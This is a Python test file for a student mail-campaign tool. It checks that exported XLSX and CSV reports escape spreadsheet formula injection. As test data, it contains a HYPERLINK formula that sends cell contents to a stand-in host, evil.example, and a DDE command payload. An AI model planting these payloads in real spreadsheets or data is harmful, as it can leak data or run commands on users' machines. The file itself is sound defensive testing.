"""Reports read back with openpyxl and csv: the right rows and columns, and no cell a
spreadsheet would run as a formula, whatever the students' data or USOS's errors say."""

from __future__ import annotations

import csv
from collections.abc import Callable, Iterator
from pathlib import Path

import openpyxl
import pytest

from tests.helpers.campaigns import client_for, rows_failing, sent_campaign
from tests.helpers.tables import DEMO_COLUMNS
from usosmail_gui.core.journal import Journal, StatusUpdate
from usosmail_gui.core.report import FIXED_COLUMNS, FORMULA_STARTS, ReportError, neutralise_csv, write_report
from usosmail_gui.core.statuses import poll_once
from usosmail_gui.sandbox import Sandbox

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+48 600 100 200",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
HOSTILE_ERROR = "=cmd|' /C calc'!A0"


@pytest.fixture
def journal() -> Iterator[Journal]:
    with Journal.open() as opened:
        yield opened


@pytest.fixture
def campaign(make_sandbox: Callable[..., Sandbox], journal: Journal) -> str:
    """Six students with hostile names, one failing domain, one hostile USOS error."""
    sb = make_sandbox()
    rows = rows_failing(len(HOSTILE), failing=(2,))
    for index, value in enumerate(HOSTILE):
        rows[index][4] = value  # "Kierunek" (not in the subject: a line break there is refused)
        rows[index][5] = value[::-1]  # "Rok": hostile characters at the end only (harmless)
    rows[0][1] = "Żółć-Ęą"  # Polish letters survive
    name = sent_campaign(journal, sb, rows)
    assert sb.wait_delivered(10)
    with client_for(sb) as client:
        assert poll_once(journal, client, name).all_finished
    hostile_id = journal.recipients(name)[3].message_id
    assert hostile_id
    journal.record_statuses(name, [StatusUpdate(hostile_id, "failed", HOSTILE_ERROR, True)])
    return name


def test_xlsx_report_has_every_column_and_no_formula(journal: Journal, campaign: str, tmp_path: Path) -> None:
    path = tmp_path / "raport.xlsx"
    assert write_report(journal, campaign, path) == len(HOSTILE)
    book = openpyxl.load_workbook(path)
    sheet = book.active
    assert sheet is not None
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    assert header == [*DEMO_COLUMNS, *FIXED_COLUMNS]
    cells = [c for row in rows for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    body = [[c.value for c in row] for row in rows[1:]]
    # kept as text (XML reads a carriage return back as a line feed)
    assert [r[4] for r in body] == [v.replace("\r", "\n") for v in HOSTILE]
    assert body[0][1] == "Żółć-Ęą"
    status_at = len(DEMO_COLUMNS) + 2
    assert [r[status_at] for r in body] == ["sent", "sent", "failed", "failed", "sent", "sent"]
    assert body[3][status_at + 1] == HOSTILE_ERROR
    assert body[2][status_at + 1]  # the sandbox's reason for the failing domain
    assert all(r[status_at - 1] and r[status_at + 2] and r[status_at + 3] for r in body)  # ID, times
    about = {row[0].value: row[1].value for row in book["Campaign"].iter_rows()}
    assert about["Campaign"] == campaign and about["Counts"] == "4 sent, 2 failed"
    assert "is kept in the journal until" in about["Personal data"]
    book.close()


def test_csv_report_is_excel_ready_and_neutralised(journal: Journal, campaign: str, tmp_path: Path) -> None:
    path = tmp_path / "raport.csv"
    write_report(journal, campaign, path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    with path.open(encoding="utf-8-sig", newline="") as handle:
        lines = list(csv.reader(handle, delimiter=";"))
    rows, (blank, (note,)) = lines[:-2], lines[-2:]  # the table, then a line about the data
    assert blank == [] and "kept in the journal until" in note and "180 days after its last status" in note
    assert rows[0] == [*DEMO_COLUMNS, *FIXED_COLUMNS]
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert [r[4] for r in rows[1:]] == ["'" + v for v in HOSTILE]
    assert rows[1][1] == "Żółć-Ęą"
    assert rows[4][len(DEMO_COLUMNS) + 3] == "'" + HOSTILE_ERROR


def test_neutralise_csv() -> None:
    assert [neutralise_csv(v) for v in ("=1", "+1", "-1", "@a", "\t1", "\r1")] == [
        "'=1",
        "'+1",
        "'-1",
        "'@a",
        "'\t1",
        "'\r1",
    ]
    assert neutralise_csv("Anna") == "Anna" and neutralise_csv("") == "" and neutralise_csv("a=1") == "a=1"


def test_report_problems_in_plain_words(journal: Journal, campaign: str, tmp_path: Path) -> None:
    tmp_path = tmp_path / "out"
    tmp_path.mkdir()
    with pytest.raises(ReportError, match="no campaign"):
        write_report(journal, "no-such-campaign", tmp_path / "r.xlsx")
    with pytest.raises(ReportError, match="Cannot write"):
        write_report(journal, campaign, tmp_path / "missing-folder" / "r.csv")
    with pytest.raises(ReportError, match=r"\.xlsx or \.csv"):
        write_report(journal, campaign, tmp_path / "r.pdf")
    assert list(tmp_path.iterdir()) == []  # nothing half-written left behind
